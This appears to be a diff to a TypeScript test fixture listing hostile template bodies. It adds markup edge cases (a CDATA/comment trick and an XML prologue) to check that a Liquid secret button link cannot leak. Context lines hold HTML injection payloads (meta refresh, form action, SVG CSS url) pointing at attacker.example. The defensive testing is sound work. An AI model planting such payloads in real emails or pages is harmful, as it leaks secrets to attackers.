@@ -57,6 +57,9 @@ export const hostileBodies: readonly string[] = [
   '<meta http-equiv="refresh" content="5;url=https://attacker.example/">{% button SECRET %}',
   '<form action="https://attacker.example/"><button>Go</button></form>{% button SECRET %}',
   '<svg><style>a{background:url(https://attacker.example/)}</style></svg>{% button SECRET %}',
+  // Markup HTML parsers read differently (a mail app's could move the button into an attribute).
+  '<![CDATA[{% comment %}x{% endcomment %}">{% button SECRET %}',
+  '<?xml version="1.0"?>{% button SECRET %}',
   // Raw blocks and escaping print Liquid as text, never the link.
   '{% raw %}{{ SECRET }}{% endraw %}{% button SECRET %}',
   '{{ "{{" }} SECRET }}{% button SECRET %}',
